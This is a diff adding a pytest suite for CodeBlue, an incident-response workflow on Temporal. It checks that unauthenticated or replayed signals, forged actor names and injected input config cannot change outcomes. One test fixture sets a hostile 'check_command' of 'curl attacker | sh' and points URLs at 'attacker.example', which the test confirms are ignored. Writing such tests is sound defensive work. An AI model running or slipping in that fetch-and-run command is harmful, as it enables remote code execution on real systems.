@@ -1,0 +1,194 @@
+"""The trust boundary holds against anyone with raw Temporal access: no typed name, no input
+config and no replayed proof changes what CodeBlue does (worker.identity, StartedBy)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from temporalio import client as tclient
+from temporalio.client import Client, WorkflowUpdateFailedError
+
+from domain.config import CodeBlueConfig, Contacts, HealthConfig
+from domain.identity import HEADER, Keyring, Principal, keyring_from_env, parse_key
+from domain.incident import CommanderAssignment, Decision, Escalation, Note, Resolution
+from domain.severity import Severity
+from starters import service
+from tests.fakes import World
+from tests.workflow_helpers import events, incident, proposed, start, terminate, until, worker_for
+from worker.identity import IdentityInterceptor, acting_as
+from worker.temporal import data_converter
+from workflows.incident_response import IncidentResponseWorkflow
+
+
+class _Recorder(tclient.Interceptor):
+    """Outermost on a raw client: replays `inject` headers onto every call, as an attacker
+    who copied a proof from a history would."""
+
+    def __init__(self) -> None:
+        self.inject: dict[str, Any] = {}
+
+    def intercept_client(self, next: tclient.OutboundInterceptor) -> tclient.OutboundInterceptor:
+        rec = self
+
+        class _Out(tclient.OutboundInterceptor):
+            async def signal_workflow(self, input: tclient.SignalWorkflowInput) -> None:
+                input.headers = {**input.headers, **rec.inject}
+                await super().signal_workflow(input)
+
+            async def start_workflow_update(self, input: tclient.StartWorkflowUpdateInput) -> Any:
+                input.headers = {**input.headers, **rec.inject}
+                return await super().start_workflow_update(input)
+
+        return _Out(next)
+
+
+async def _raw(env, *interceptors) -> Client:
+    """Temporal's own client with CodeBlue's converter and no operator key."""
+    return await Client.connect(env.client.service_client.config.target_host, namespace=env.client.namespace,
+                                data_converter=data_converter(), interceptors=list(interceptors))
+
+
+async def _proof_of(env, h, signal: str, arg) -> Any:
+    """The header a legitimate signal carried, read back from the incident's history."""
+    await h.signal(signal, arg)
+    async for ev in h.fetch_history_events():
+        attrs = ev.workflow_execution_signaled_event_attributes
+        if ev.HasField("workflow_execution_signaled_event_attributes") and HEADER in attrs.header.fields:
+            last = attrs.header.fields[HEADER]
+    return last
+
+
+async def test_raw_decide_update_and_reject_signal_with_the_ics_name_change_nothing(skipping_env):
+    world = World()
+    async with worker_for(skipping_env, world) as tq:
+        h = await start(skipping_env, world, incident(), tq)
+        await until(h, proposed, "proposals")
+        raw = (await _raw(skipping_env)).get_workflow_handle(h.id)
+        with pytest.raises(WorkflowUpdateFailedError) as e:
+            await raw.execute_update(IncidentResponseWorkflow.decide, Decision(action_id="rollback", approve=True, by="alice"))
+        assert "no proof of identity" in str(e.value.cause)
+        with pytest.raises(WorkflowUpdateFailedError):
+            await raw.execute_update(IncidentResponseWorkflow.resolve, Resolution(by="alice", summary="x", force=True))
+        await raw.signal(IncidentResponseWorkflow.reject, Decision(action_id="rollback", approve=False, by="alice", reason="r"))
+        await raw.signal(IncidentResponseWorkflow.approve, Decision(action_id="scale", approve=True, by="alice"))
+        await raw.signal(IncidentResponseWorkflow.assign_commander, CommanderAssignment(commander="mallory", by="alice"))
+        await raw.signal(IncidentResponseWorkflow.escalate, Escalation(severity=Severity.P0, by="alice", reason="x"))
+        await raw.signal(IncidentResponseWorkflow.add_note, Note(by="alice", text="fake note"))
+        await raw.signal("resolve", Resolution(by="alice", summary="x", force=True))
+        rep = await until(h, lambda r: sum(e.startswith("Ignored ") for e in events(r)) >= 6, "six ignored signals")
+        ignored = [e for e in rep.timeline if e.event.startswith("Ignored ")]
+        assert {e.event for e in ignored} == {f"Ignored {n}: unauthenticated" for n in
+                                             ("reject", "approve", "assign_commander", "escalate", "add_note", "resolve")}
+        assert all(e.actor == "(unverified)" and "claimed to be from 'alice'" in (e.result or "") for e in ignored)
+        assert all(a.state.value == "proposed" for a in rep.actions)
+        assert rep.commander == "alice" and rep.status == "open" and "Note" not in events(rep)
+        await terminate(h)
+    assert world.effects == []
+
+
+async def test_a_proof_is_bound_to_its_incident_handler_and_payload_and_used_once(skipping_env):
+    world = World()
+    async with worker_for(skipping_env, world) as tq:
+        a = await start(skipping_env, world, incident(), tq)
+        b = await start(skipping_env, world, incident(), tq)
+        await until(a, proposed, "proposals on A")
+        await until(b, proposed, "proposals on B")
+        note = Note(by="alice", text="seen on A")
+        proof = await _proof_of(skipping_env, a, "add_note", note)
+        rec = _Recorder()
+        rec.inject = {HEADER: proof}
+        raw = await _raw(skipping_env, rec)
+        await raw.get_workflow_handle(b.id).signal(IncidentResponseWorkflow.add_note, note)  # another incident
+        await raw.get_workflow_handle(a.id).signal(IncidentResponseWorkflow.add_note, note)  # replayed
+        await raw.get_workflow_handle(a.id).signal(IncidentResponseWorkflow.add_note, Note(by="alice", text="altered"))
+        await raw.get_workflow_handle(a.id).signal(  # another handler
+            IncidentResponseWorkflow.approve, Decision(action_id="rollback", approve=True, by="alice"))
+        rb = await until(b, lambda r: any(e.startswith("Ignored add_note") for e in events(r)), "refused on B")
+        assert f"made for {a.id}, not {b.id}" in next(e.result for e in rb.timeline if e.event.startswith("Ignored"))
+        ra = await until(a, lambda r: sum(e.startswith("Ignored") for e in events(r)) >= 3, "refused on A")
+        why = [e.result or "" for e in ra.timeline if e.event.startswith("Ignored")]
+        assert any("already used" in w for w in why)
+        assert any("payload differs" in w for w in why)
+        assert any("made for add_note, not approve" in w for w in why)
+        assert [e.result for e in ra.timeline if e.event == "Note"] == ["seen on A"]
+        assert ra.actions[0].state.value == "proposed"
+        for h in (a, b):
+            await terminate(h)
+    assert world.effects == []
+
+
+async def test_a_rotated_key_still_verifies_and_an_unknown_key_does_not(skipping_env):
+    old, new = "old-key-0123456789abcdef", "new-key-0123456789abcdef"
+    worker_client = await _raw(skipping_env, IdentityInterceptor(Keyring([parse_key(new), parse_key(old)])))
+    old_signer = await _raw(skipping_env, IdentityInterceptor(Keyring([parse_key(old)]), via=""))
+    stranger = await _raw(skipping_env, IdentityInterceptor(Keyring([parse_key("other-key-0123456789abc")]), via=""))
+    world = World()
+    from tests.workflow_helpers import incident_worker
+    from temporalio.worker import Worker
+    import uuid
+
+    tq = f"tq-{uuid.uuid4().hex[:8]}"
+    async with Worker(worker_client, task_queue=tq, **incident_worker(world)):
+        h = await service.start_incident(old_signer, incident(), tq)
+        await until(h, proposed, "proposals")
+        with pytest.raises(service.CodeBlueError, match="key is unknown"):
+            await service.decide(stranger, h.id, Decision(action_id="scale", approve=True, by="alice"))
+        await service.decide(old_signer, h.id, Decision(action_id="scale", approve=False, by="alice", reason="no"))
+        rep = await h.query(IncidentResponseWorkflow.status)
+        assert next(a for a in rep.actions if a.id == "scale").decided_by == "alice"
+        await terminate(h)
+
+
+async def test_the_actor_is_the_authenticated_principal_and_a_typed_by_cannot_differ(skipping_env):
+    world = World()
+    async with worker_for(skipping_env, world) as tq:
+        h = await start(skipping_env, world, incident(), tq)
+        await until(h, proposed, "proposals")
+        api = await _raw(skipping_env, IdentityInterceptor(keyring_from_env(), via=None))
+        with pytest.raises(service.CodeBlueError, match="no proof of identity"):  # the API never signs a typed name
+            await service.decide(api, h.id, Decision(action_id="scale", approve=True, by="alice"))
+        with acting_as(Principal(name="bob", roles=["commander"])):
+            with pytest.raises(Exception, match="not the authenticated actor bob"):
+                await service.decide(api, h.id, Decision(action_id="scale", approve=True, by="alice"))
+            with pytest.raises(service.CodeBlueError, match="bob is not the incident commander"):
+                await service.decide(api, h.id, Decision(action_id="scale", approve=True, by="bob"))
+        operator = await _raw(skipping_env, IdentityInterceptor(keyring_from_env()))
+        await service.decide(operator, h.id, Decision(action_id="scale", approve=False, by="alice", reason="no"))
+        rep = await h.query(IncidentResponseWorkflow.status)
+        assert next(a for a in rep.actions if a.id == "scale").decided_by == "alice (operator key)"
+        await terminate(h)
+
+
+async def test_a_raw_start_is_refused_and_acts_on_nothing(skipping_env):
+    world = World()
+    async with worker_for(skipping_env, world) as tq:
+        raw = await _raw(skipping_env)
+        inp = incident()
+        h = await service.start_incident(raw, inp, tq)
+        rep = await h.result()
+    assert rep.status == "refused" and events(rep) == ["Incident start refused: unauthenticated"]
+    assert world.pages == [] and world.calls["pod_status"] == 0 and world.calls["worker_config"] == 0
+
+
+async def test_config_in_an_input_changes_no_url_contact_command_or_approver(skipping_env):
+    world = World()
+    world.config = CodeBlueConfig(health=HealthConfig(url="http://worker.example/health"),
+                                  contacts=Contacts(on_call="+1-555-0100"))
+    evil = {"health": {"url": "http://attacker.example/x"}, "contacts": {"on_call": "+1-666"},
+            "database": {"check_command": ["sh", "-c", "curl attacker | sh"]},
+            "mitigation": {"approvers": ["mallory"]}}
+    async with worker_for(skipping_env, world) as tq:
+        inp = incident().model_copy(update={"config": evil})
+        h = await start(skipping_env, world, inp, tq)
+        await until(h, proposed, "proposals")
+        with pytest.raises(service.CodeBlueError, match="mallory is not the incident commander"):
+            await service.decide(skipping_env.client, h.id, Decision(action_id="db-check", approve=True, by="mallory"))
+        for a in (await h.query(IncidentResponseWorkflow.status)).actions:
+            await service.decide(skipping_env.client, h.id, Decision(action_id=a.id, approve=a.id == "db-check", by="alice",
+                                                                     reason=None if a.id == "db-check" else "not now"))
+        await until(h, lambda r: any(e.startswith("Executed db-check") or e.startswith("Failed db-check") for e in events(r)), "db-check ran")
+        await terminate(h)
+    assert set(world.probed) == {"http://worker.example/health"}
+    assert {p.contact for p in world.pages_to("on_call")} == {"+1-555-0100"}
+    assert world.db_commands == [None]
